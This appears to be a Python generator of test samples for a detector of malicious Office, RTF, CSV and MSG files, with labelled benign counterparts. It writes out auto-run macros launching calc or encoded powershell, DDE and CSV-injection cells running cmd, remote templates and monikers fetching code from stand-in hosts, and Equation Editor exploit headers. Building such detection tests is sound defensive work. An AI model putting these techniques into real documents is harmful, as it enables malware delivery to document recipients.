"""Office documents of all kinds: macros, fields, what they fetch, what they carry."""
import random
import struct
from archives import plain
from office import biff, cfb, compress, document, module, native, old_object, ooxml, project, relationships, workbook
from sample import EICAR, PNG, TEXT, Sample, pe

RUNS = [b'Sub AutoOpen()\r\nShell "calc.exe", 1\r\nEnd Sub\r\n',
        b'Sub Document_Open()\r\nSet x = CreateObject("WScript.Shell")\r\nx.Run "calc"\r\nEnd Sub\r\n',
        b'Private Sub Workbook_Open()\r\nOpen "c:\\a.txt" For Output As #1\r\nSet q = CreateObject("x")\r\nEnd Sub\r\n',
        b'Sub auto_open()\r\nx = "po" & "wers" & "hell -enc x"\r\nGetObject("winmgmts:").Get(y).Create x\r\nEnd Sub\r\n',
        b'Sub Workbook_Open()\r\nx = Chr(112) & Chr(111) & Chr(119) & Chr(101) & Chr(114) & Chr(115) & Chr(104) & Chr(101) & Chr(108) & Chr(108)\r\nEnd Sub\r\n',
        b'Private Sub Frame1_Layout()\r\nShell StrReverse("exe.clac")\r\nEnd Sub\r\n',
        b'Sub AutoClose()\r\nDeclare Function f Lib "urlmon" Alias "URLDownloadToFileA" ()\r\nURLDownloadToFile 0\r\nEnd Sub\r\n']
HELLO = b'Sub Hello()\r\nMsgBox "Hello"\r\nEnd Sub\r\n'
EQUATION = bytes.fromhex("02ce020000000000c000000000000046")
SCRIPT = bytes.fromhex("d34b2906aa48d211843200600 8c3fbfc".replace(" ", ""))
URL = "http://files.example.net/a.dot"
MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")


def rtf(body):
    return b"{\\rtf1\\ansi Hello " + body.encode() + b"}"


def macros():
    for i, source in enumerate(RUNS):
        for copies in (False, True):
            yield Sample("macro %d %d" % (i, copies), "a.doc", document(source, copies=copies), ["office-macro", "macro-runs"])
        yield Sample("macro in docm %d" % i, "a.docm", ooxml("word", {"word/vbaProject.bin": cfb(project(source))}), ["office-macro", "macro-runs"])
        yield Sample("macro in docx name %d" % i, "a.docx", ooxml("word", {"word/other.bin": cfb(project(source))}), ["office-macro", "macro-runs"])
        yield Sample("macro in zip %d" % i, "a.zip", plain([("a.xls", cfb(dict({"Workbook": bytes(4096)}, **project(source, "_VBA_PROJECT_CUR/"))))]), "macro-runs")
    for kind, word in (("xl", "xlsm"), ("ppt", "pptm"), ("xl", "xlsb")):
        yield Sample("macro in " + word, "a." + word, ooxml(kind, {kind + "/vbaProject.bin": cfb(project(RUNS[0]))}), ["office-macro", "macro-runs"])
    yield Sample("macro without event", "a.doc", document(HELLO), "office-macro", absent=["macro-runs", "macro-automatic"])
    yield Sample("macro automatic", "a.doc", document(b'Sub AutoOpen()\r\nSet d = CreateObject("Scripting.Dictionary")\r\nEnd Sub\r\n'), "macro-automatic", absent=["macro-runs"])
    yield Sample("macro large", "a.doc", document(HELLO * 300 + RUNS[0]), "macro-runs")
    yield Sample("macro 4096", "a.doc", cfb(dict({"WordDocument": bytes(9000)}, **project(RUNS[0], "Macros/")), sector=4096), "macro-runs")
    yield Sample("macro backwards", "a.doc", document(b'Sub f()\r\nx = StrReverse("llehsrewop")\r\nEnd Sub\r\n'), "macro-commands")
    yield Sample("macro commands", "a.doc", document(b'Sub f()\r\nx = "certutil -urlcache": y = "rundll32"\r\nEnd Sub\r\n'), "macro-commands")
    yield Sample("stomped", "a.doc", document(b"\1\x16\1" + bytes(900)), ["macro-stomped", "office-macro"])
    damaged = bytearray(document(RUNS[0]))
    damaged[48:52] = b"\xff\xff\xff\x7f"
    yield Sample("macro without directory", "a.doc", bytes(damaged), "office-macro")
    yield Sample("ribbon", "a.docm", ooxml("word", {"customUI/customUI.xml": "<customUI xmlns='x' onLoad='Start'><ribbon/></customUI>"}), "ribbon-macro")
    yield Sample("open document macro", "a.odt", plain([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<a/>"),
                                                         ("Basic/Standard/Module1.xml", "<x>Shell</x>")]), "office-macro")


def excel4():
    for state in (0, 1, 2):
        yield Sample("excel4 %d" % state, "a.xls", workbook([("Sheet1", 0, 0), ("m", state, 1)]), ["excel4-macro"] + (["excel4-runs"] if state else []))
    for function in (110, 149, 150):
        yield Sample("excel4 function %d" % function, "a.xls", workbook([("m", 0, 1)], formulas=[function]), ["excel4-macro", "excel4-runs"])
    yield Sample("excel4 automatic", "a.xls", workbook([("m", 0, 1)], names=["auto"]), "excel4-runs")
    yield Sample("excel4 in xlsm", "a.xlsm", ooxml("xl", {"xl/macrosheets/sheet1.xml": "<f>EXEC(\"calc\")</f>"}), ["excel4-macro", "excel4-runs"])
    yield Sample("excel4 plain xlsm", "a.xlsm", ooxml("xl", {"xl/macrosheets/sheet1.xml": "<f>HALT()</f>"}), "excel4-macro", absent=["excel4-runs"])
    yield Sample("excel4 name", "a.xlsm", ooxml("xl", {"xl/workbook.xml": '<w><definedName name="_xlnm.Auto_Open">m!A1</definedName></w>'}), "excel4-runs")
    yield Sample("excel4 xlsb", "a.xlsb", ooxml("xl", {"xl/macrosheets/sheet1.bin": bytes(60)}), "excel4-macro")


def fetching():
    for kind, path in (("attachedTemplate", "word/_rels/settings.xml.rels"), ("oleObject", "word/_rels/document.xml.rels"), ("frame", "word/_rels/webSettings.xml.rels"),
                       ("subDocument", "word/_rels/document.xml.rels"), ("aFChunk", "word/_rels/document.xml.rels")):
        sign = "remote-template" if kind == "attachedTemplate" else "remote-object"
        for target in (URL, "https://files.example.net/a?b&c", "\\\\192.0.2.7\\share\\a.dotm", "file://192.0.2.7/a.dotm", "\\\\host.example@ssl\\a.dotm"):
            yield Sample("%s %s" % (kind, target[:12]), "a.docx", ooxml("word", {path: relationships([(kind, target, True)])}), sign,
                         links=[target] if target.startswith("http") else [])
    for target, signs, absent in (("\\\\192.0.2.7\\share\\a.png", "remote-object", []), ("\\\\files\\share\\a.png", [], ["remote-object"]), ("https://www.example.com/a.png", [], ["remote-object"])):
        yield Sample("picture " + target[:12], "a.docx", ooxml("word", {"word/_rels/document.xml.rels": relationships([("image", target, True)])}), signs, absent=absent)
    yield Sample("mhtml", "a.docx", ooxml("word", {"word/_rels/document.xml.rels": relationships([("oleObject", "mhtml:http://x.example/a!x", True)])}), "exploit-object")
    yield Sample("html!", "a.docx", ooxml("word", {"word/_rels/document.xml.rels": relationships([("oleObject", "https://x.example/a.html!", True)])}), "exploit-object")
    yield Sample("hyperlink", "a.docx", ooxml("word", {"word/_rels/document.xml.rels": relationships([("hyperlink", URL, True)])}), [], links=[URL])
    yield Sample("link of a workbook", "a.xlsx", ooxml("xl", {"xl/externalLinks/_rels/externalLink1.xml.rels": relationships([("externalLinkPath", URL, True)])}), "remote-link")
    yield Sample("rtf template", "a.rtf", rtf("{\\*\\template %s}" % URL), "remote-template", links=[URL])
    yield Sample("rtf template in doc", "a.doc", rtf("{\\*\\template \n%s}" % URL), "remote-template", links=[URL])


def fields():
    run = '<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>'
    for text in (" DDEAUTO c:\\\\x ", ' DDE "cmd" "/c x"', "ddeauto x"):
        yield Sample("docx field " + text, "a.docx", ooxml("word", {"word/document.xml": "<w:document>" + run % text.replace('"', "&quot;") + "</w:document>"}), "dde")
        yield Sample("docx simple field " + text, "a.docx", ooxml("word", {"word/document.xml": "<w:fldSimple w:instr='%s'/>" % text.replace('"', "&quot;")}), "dde")
        yield Sample("rtf field " + text, "a.rtf", rtf("{\\field{\\*\\fldinst {%s}}}" % text), "dde")
        yield Sample("doc field " + text, "a.doc", cfb({"WordDocument": bytes(4200) + b"\x13" + text.encode() + b"\x14x\x15" + bytes(200)}), "dde")
    cut = "".join(run % c for c in " DDEAUTO x")
    yield Sample("docx field in pieces", "a.docx", ooxml("word", {"word/document.xml": '<w:fldChar w:fldCharType="begin"/>' + cut + '<w:fldChar w:fldCharType="end"/>'}), "dde")
    yield Sample("docx field in header", "a.docx", ooxml("word", {"word/header1.xml": run % "DDEAUTO x"}), "dde")
    yield Sample("xlsx dde", "a.xlsx", ooxml("xl", {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), "dde")
    for cell in ("=cmd|' /C calc'!A0", "+cmd|'/c x'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '"=MSEXCEL|\'\\..\\x.exe\'!A1"'):
        yield Sample("csv " + cell, "a.csv", ("name,value\r\nx,%s\r\n" % cell).encode(), "dde")
    yield Sample("csv webservice", "a.csv", b"a,=WEBSERVICE(\"http://x.example/\"&A1)\r\n", "fetching-cell")


def objects():
    for name in ("a.exe", "a.js", "a.bat", "a.lnk", "a.vbs", "invoice.pdf.exe"):
        for data in (pe(), TEXT):
            yield Sample("ole package %s %d" % (name, len(data)), "a.doc", cfb({"WordDocument": bytes(5000), "ObjectPool/_1/\1Ole10Native": native(name, data)}), "embedded-program")
            yield Sample("rtf package %s %d" % (name, len(data)), "a.rtf", rtf("{\\object{\\*\\objdata %s}}" % old_object("Package", native(name, data, size=False))), ["embedded-program", "rich-object"])
        yield Sample("docx package " + name, "a.docx", ooxml("word", {"word/embeddings/oleObject1.bin": cfb({"\1Ole10Native": native(name, TEXT)})}), "embedded-program")
    yield Sample("label lies", "a.doc", cfb({"\1Ole10Native": native("a.txt", TEXT, path="C:\\x\\a.vbs")}), "embedded-program")
    yield Sample("package of program without name", "a.doc", cfb({"\1Ole10Native": native("a.dat", pe())}), "embedded-program")
    yield Sample("program in docx", "a.docx", ooxml("word", {"word/media/a.exe": pe()}), "embedded-program")
    yield Sample("EICAR in docx", "a.docx", ooxml("word", {"word/embeddings/a.dat": EICAR}), "eicar")
    for data, label in (("Equation.3", "3"), ("Equation.2", "2"), ("eQuAtIoN.3", "case")):
        yield Sample("rtf equation " + label, "a.rtf", rtf("{\\object{\\*\\objdata %s}}" % old_object(data, bytes(60))), "exploit-object")
    short = b"\1\5\0\0\2\0\0\0\x0b\0\0\0Equation.3\0".hex()
    yield Sample("rtf equation without more", "a.rtf", rtf("{\\object{\\*\\objdata %s}}" % short), "exploit-object")
    yield Sample("rtf with half a head", "a.doc", b"{\\rt" + rtf("{\\object{\\*\\objdata %s}}" % short)[6:], "exploit-object")
    yield Sample("rtf equation in CFB", "a.rtf", rtf("{\\object{\\*\\objdata %s}}" % old_object("x", cfb({"x": TEXT}, {"": EQUATION}))), "exploit-object")
    digits = old_object("Equation.3", bytes(60))
    broken = "".join(c + ("\r\n" if i % 7 == 0 else "{\\x1}" if i % 11 == 0 else "\\foo9 " if i % 13 == 0 else "") for i, c in enumerate(digits))
    yield Sample("rtf broken digits", "a.rtf", rtf("{\\object{\\*\\objdata %s}}" % broken), "exploit-object")
    yield Sample("rtf behind many objects", "a.rtf", rtf("{\\objdata 00}" * 40 + "{\\objdata %s}" % bytes(17).hex() * 40 + "{\\object{\\*\\objdata %s}}" % digits), "exploit-object")
    yield Sample("rtf long number", "a.rtf", rtf("{\\object{\\*\\objdata1234567890123 %s}}" % digits), "exploit-object")
    yield Sample("rtf more bytes than there are", "a.rtf", rtf("\\bin99999999999 {\\object{\\*\\objdata %s}}" % digits), "exploit-object")
    yield Sample("rtf class", "a.rtf", rtf("{\\object{\\*\\objdata %s}}" % (b"x" * 40 + SCRIPT).hex()), "exploit-object")
    yield Sample("rtf link", "a.rtf", rtf("{\\object{\\*\\objdata %s}}" % old_object("OLE2Link", bytes(40))), "exploit-object")
    yield Sample("rtf update", "a.rtf", rtf("{\\object\\objautlink\\objupdate{\\*\\objdata %s}}" % old_object("x", bytes(40))), "updated-object")
    moniker = bytes(20) + MONIKER + struct.pack("<I", 40) + "http://x.example/a.hta\0".encode("utf-16-le")
    yield Sample("moniker", "a.doc", cfb({"ObjectPool/_1/\1Ole": moniker}), "remote-object", links=["http://x.example/a.hta"])
    yield Sample("rtf moniker", "a.rtf", rtf("{\\object{\\*\\objdata %s}}" % moniker.hex()), "remote-object", links=["http://x.example/a.hta"])
    yield Sample("doc class", "a.doc", cfb({"WordDocument": bytes(5000), "ObjectPool/x": TEXT}, {"ObjectPool": SCRIPT}), "exploit-object")
    yield Sample("doc equation", "a.doc", cfb({"WordDocument": bytes(5000), "ObjectPool/x": TEXT}, {"ObjectPool": EQUATION}), "old-object")
    yield Sample("encrypted office", "a.docx", cfb({"EncryptedPackage": bytes(5000), "EncryptionInfo": bytes(100)}), "encrypted-office")
    yield Sample("encrypted workbook", "a.xls", workbook([("a", 0, 0)], encrypted=True), "encrypted-office")
    yield Sample("encrypted word", "a.doc", cfb({"WordDocument": struct.pack("<HHHHHH", 0xA5EC, 193, 0, 0, 0, 0x100) + bytes(5000)}), "encrypted-office")
    wide = "__attach_version1.0_#00000000/__substg1.0_"
    yield Sample("msg", "a.msg", cfb({"__properties_version1.0": bytes(32), wide + "3707001F": "payment.exe".encode("utf-16-le"), wide + "37010102": pe()}), ["program-name", "program"])
    yield Sample("msg narrow", "a.msg", cfb({"__properties_version1.0": bytes(32), wide + "3707001E": b"payment.js", wide + "37010102": TEXT}), "script-name")


def tricks():
    for make in (macros, excel4, fetching, fields, objects):
        yield from make()


def benign():
    rng = random.Random(5)
    letters = lambda n: bytes(rng.choice(b"abcdefghij \r\n") for _ in range(n))  # noqa: E731
    run = '<w:r><w:instrText> %s </w:instrText></w:r>'
    for i in range(60):
        text = letters(rng.randrange(100, 4000)).decode()
        files = {"word/document.xml": "<w:document>%s%s</w:document>" % (run % rng.choice(["PAGE", "TOC \\o", 'HYPERLINK "http://x.example"', "DATE", "REF x"]), text),
                 "word/media/image1.png": PNG, "docProps/app.xml": "<a/>", "word/styles.xml": "<s>%s</s>" % text,
                 "word/_rels/document.xml.rels": relationships([("styles", "styles.xml", False), ("hyperlink", "https://www.example.com/a?b&c", True), ("image", "https://www.example.com/a.png", True)]),
                 "word/_rels/settings.xml.rels": relationships([("attachedTemplate", "file:///C:\\Users\\ann\\Templates\\letter.dotx", True)])}
        yield Sample("benign docx %d" % i, "letter %d.docx" % i, ooxml("word", files), None)
        sheet = {"xl/worksheets/sheet1.xml": "<sheetData><c><f>SUM(A1:A9)</f><v>%s</v></c></sheetData>" % text, "xl/sharedStrings.xml": "<sst>%s</sst>" % text,
                 "xl/printerSettings/printerSettings1.bin": letters(500), "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='quotes' ddeTopic='x'/></externalLink>",
                 "xl/externalLinks/_rels/externalLink1.xml.rels": relationships([("externalLinkPath", rng.choice(["file:///C:\\a.xlsx", "book2.xlsx", "https://intranet.example.com/a.xlsx"]), True)])}
        yield Sample("benign xlsx %d" % i, "table %d.xlsx" % i, ooxml("xl", sheet), None)
        yield Sample("benign pptx %d" % i, "slides %d.pptx" % i, ooxml("ppt", {"ppt/slides/slide1.xml": "<p>%s</p>" % text, "ppt/media/image1.png": PNG}), None)
        yield Sample("benign odt %d" % i, "letter %d.odt" % i, plain([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<a>%s</a>" % text), ("META-INF/manifest.xml", "<m/>"),
                                                                      ("Configurations2/accelerator/current.xml", ""), ("Basic/script-lc.xml", "<l/>")]), None)
        yield Sample("benign doc %d" % i, "letter %d.doc" % i, cfb({"WordDocument": letters(rng.randrange(4096, 9000)), "1Table": letters(900), "\5SummaryInformation": letters(200), "Data": letters(5000)}), None)
        yield Sample("benign rtf %d" % i, "letter %d.rtf" % i, rtf("\\par %s{\\pict\\pngblip %s}{\\field{\\*\\fldinst HYPERLINK \"http://x.example\"}}" % (text.replace("\r\n", " "), letters(200).hex())), None)
        yield Sample("benign csv %d" % i, "table %d.csv" % i, ("a;b;c\r\n" + "".join("%s;=SUM(A%d);-%d;+49 123 %d;@ann\r\n" % (letters(9).decode("ascii").strip(), k, k, k) for k in range(20))).encode(), None)
    for i in range(20):
        yield Sample("benign xls %d" % i, "table %d.xls" % i, workbook([("Sheet%d" % k, 0, 0) for k in range(3)]), None)
        yield Sample("benign msg %d" % i, "mail.msg", cfb({"__properties_version1.0": bytes(32), "__substg1.0_0037001F": "Hello".encode("utf-16-le"),
                                                            "__attach_version1.0_#00000000/__substg1.0_3707001F": "a.pdf".encode("utf-16-le"),
                                                            "__attach_version1.0_#00000000/__substg1.0_37010102": b"%PDF-1.4\n"}), None)
    yield Sample("benign loop", "a.doc", cfb({"WordDocument": letters(50000)}, loop=True), None)
    yield Sample("benign dictionary", "a.doc", cfb({"WordDocument": b"the words DDEAUTO and powershell in a text".ljust(5000)}), None)
